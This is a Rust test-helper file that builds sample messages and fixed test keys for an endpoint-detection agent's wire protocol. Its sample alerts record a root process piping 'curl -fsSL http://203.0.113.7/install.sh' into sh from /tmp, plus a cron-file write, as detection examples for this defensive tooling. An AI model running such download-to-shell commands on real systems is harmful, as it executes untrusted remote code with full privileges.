//! Sample messages and keys shared by the integration tests. The fixtures in
//! `fixtures/v1/` are these messages, encoded and signed with these keys.
#![allow(dead_code, reason = "each test binary uses a different part")]
#![allow(clippy::unwrap_used, reason = "test helpers fail loudly on purpose")]

use ed25519_dalek::SigningKey;
use picket_proto::{
    Alert, AlertBatch, AlertId, BoundedBytes, BoundedStr, BundleAck, BundleAnnounce, BundleChunk,
    BundleState, Command, CommandAction, CommandId, CommandReply, CommandStatus, DeviceId,
    EnrollRejection, EnrollRequest, EnrollResponse, Event, Field, Heartbeat, Level, Message,
    MessageKind, ModuleState, ModuleStatus, ProcessEvent, Signer, TechniqueId,
};

pub fn device_key() -> SigningKey {
    SigningKey::from_bytes(&[0x11; 32])
}

pub fn backend_key() -> SigningKey {
    SigningKey::from_bytes(&[0x22; 32])
}

pub fn device_id() -> DeviceId {
    DeviceId::from_public_key(&device_key().verifying_key())
}

pub fn key_for(kind: MessageKind) -> SigningKey {
    match kind.signer() {
        Signer::Device => device_key(),
        Signer::Backend => backend_key(),
    }
}

fn s<const N: usize>(v: &str) -> BoundedStr<'_, N> {
    BoundedStr::new(v).unwrap()
}

fn b<const N: usize>(v: &[u8]) -> BoundedBytes<'_, N> {
    BoundedBytes::new(v).unwrap()
}

/// A typical process alert: curl piping a script to a shell.
pub fn process_alert(n: u64) -> Alert<'static> {
    let mut id = [0u8; 16];
    // Alert ids are random in production; a keyed mix keeps them
    // incompressible here too, without a random source in tests.
    let mut x = n.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0xdead_beef;
    for byte in &mut id {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        *byte = x.to_le_bytes()[0];
    }
    Alert {
        id: AlertId(id),
        seq: 1_000 + n,
        timestamp_ms: 1_735_689_600_000 + n * 1_500,
        level: Level::High,
        rule_id: s("6b2b3f5f-9a1e-4b7c-8d3e-2f1a0c9e7d41"),
        rule_title: s("Download piped to shell"),
        techniques: heapless::Vec::from_slice(&[
            "T1059.004".parse::<TechniqueId>().unwrap(),
            "T1105".parse().unwrap(),
        ])
        .unwrap(),
        event: Event::Process(ProcessEvent {
            pid: 4_000 + u32::try_from(n).unwrap() * 3,
            ppid: 3_990 + u32::try_from(n).unwrap() * 3,
            uid: 0,
            gid: 0,
            image: s("/usr/bin/curl"),
            command_line: s("curl -fsSL http://203.0.113.7/install.sh"),
            parent_image: Some(s("/bin/sh")),
            parent_command_line: Some(s("sh -c curl -fsSL http://203.0.113.7/install.sh | sh")),
            cwd: Some(s("/tmp")),
            user: Some(s("root")),
            extra: heapless::Vec::new(),
        }),
    }
}

pub fn alerts() -> &'static [Alert<'static>] {
    use std::sync::OnceLock;
    static ALERTS: OnceLock<Vec<Alert<'static>>> = OnceLock::new();
    ALERTS.get_or_init(|| {
        let mut v = vec![process_alert(0), process_alert(1)];
        v[1].event = Event::Fields(
            heapless::Vec::from_slice(&[Field {
                key: s("TargetFilename"),
                value: s("/etc/cron.d/x"),
            }])
            .unwrap(),
        );
        v
    })
}

/// One sample of each message kind, in kind order.
pub fn samples() -> Vec<Message<'static>> {
    vec![
        Message::AlertBatch(AlertBatch::new(alerts()).unwrap()),
        Message::Heartbeat(Heartbeat {
            seq: 42,
            sent_at_ms: 1_735_689_600_000,
            uptime_secs: 3_600,
            agent_version: s("0.1.0"),
            protocol_version: 1,
            rule_bundle_version: Some(7),
            spool_depth: 12,
            spool_bytes: 4_096,
            spool_evictions_total: 0,
            lost_kernel_records_total: 3,
            modules: heapless::Vec::from_slice(&[
                ModuleStatus {
                    name: s("process"),
                    state: ModuleState::Running,
                    error: None,
                },
                ModuleStatus {
                    name: s("network"),
                    state: ModuleState::Degraded,
                    error: Some(s("no BTF")),
                },
            ])
            .unwrap(),
            cpu_permille: 25,
            rss_bytes: 31_457_280,
        }),
        Message::EnrollRequest(EnrollRequest {
            token: s("tok-3f9a"),
            public_key: device_key().verifying_key().to_bytes(),
            csr_der: None,
            hostname: s("gw-01"),
            agent_version: s("0.1.0"),
        }),
        Message::EnrollResponse(EnrollResponse::Accepted {
            certificate_der: b(&[0x30, 0x03, 0x02, 0x01, 0x01]),
            ca_certificate_der: b(&[0x30, 0x03, 0x02, 0x01, 0x02]),
        }),
        Message::BundleAnnounce(BundleAnnounce {
            version: 7,
            sha256: [0xab; 32],
            total_len: 100_000,
            chunk_len: 65_536,
            chunk_count: 2,
        }),
        Message::BundleChunk(BundleChunk {
            version: 7,
            index: 1,
            data: b(b"rules..."),
        }),
        Message::BundleAck(BundleAck {
            version: 7,
            state: BundleState::Failed,
            chunks_received: 2,
            error: Some(s("hash mismatch")),
        }),
        Message::Command(Command {
            id: CommandId([0x33; 16]),
            issued_at_ms: 1_735_689_600_000,
            expires_at_ms: 1_735_689_900_000,
            action: CommandAction::SetLogFilter(s("picket=debug")),
        }),
        Message::CommandReply(CommandReply {
            id: CommandId([0x33; 16]),
            status: CommandStatus::Succeeded,
            message: None,
            output: Some(b(b"ok")),
        }),
    ]
}

/// A rejected enrollment, to cover the other variant.
pub fn enroll_rejected() -> Message<'static> {
    Message::EnrollResponse(EnrollResponse::Rejected {
        reason: EnrollRejection::ExpiredToken,
        message: s("token expired"),
    })
}

/// File name of a kind's fixture.
pub fn fixture_name(kind: MessageKind) -> String {
    let name = match kind {
        MessageKind::AlertBatch => "alert-batch",
        MessageKind::Heartbeat => "heartbeat",
        MessageKind::EnrollRequest => "enroll-request",
        MessageKind::EnrollResponse => "enroll-response",
        MessageKind::BundleAnnounce => "bundle-announce",
        MessageKind::BundleChunk => "bundle-chunk",
        MessageKind::BundleAck => "bundle-ack",
        MessageKind::Command => "command",
        MessageKind::CommandReply => "command-reply",
        _ => "unknown",
    };
    format!("{:02}-{name}.bin", kind.as_u8())
}

/// The compressed fixture: an AlertBatch with `FLAG_DEFLATE` (docs/WIRE.md §1.1).
pub const DEFLATE_FIXTURE: &str = "10-alert-batch-deflate.bin";

/// The fixed miniz_oxide level the compressed fixture was written with.
pub const DEFLATE_FIXTURE_LEVEL: u8 = 6;

/// The batch in the compressed fixture: eight process alerts (curl piped to
/// sh, seq 1000..=1007), repetitive enough that DEFLATE pays off.
pub fn deflate_fixture_alerts() -> &'static [Alert<'static>] {
    use std::sync::OnceLock;
    static ALERTS: OnceLock<Vec<Alert<'static>>> = OnceLock::new();
    ALERTS.get_or_init(|| (0..8).map(process_alert).collect())
}

/// A frame around `body` with any kind byte and flags, signed with `key` as a
/// real sender would: for bodies and flags no encoder produces.
pub fn sign_raw(kind: u8, flags: u8, body: &[u8], key: &SigningKey) -> Vec<u8> {
    use ed25519_dalek::{Digest, Sha512};
    let device = DeviceId::from_public_key(&key.verifying_key());
    let payload_len = u32::try_from(16 + body.len() + 64).unwrap();
    let mut f = Vec::with_capacity(9 + 16 + body.len() + 64);
    f.extend_from_slice(&picket_proto::MAGIC);
    f.extend_from_slice(&[picket_proto::PROTOCOL_VERSION, kind, flags]);
    f.extend_from_slice(&payload_len.to_le_bytes());
    f.extend_from_slice(device.as_bytes());
    f.extend_from_slice(body);
    let sig = key
        .sign_prehashed(
            Sha512::new().chain_update(&f),
            Some(picket_proto::SIGNATURE_CONTEXT),
        )
        .unwrap();
    f.extend_from_slice(&sig.to_bytes());
    f
}
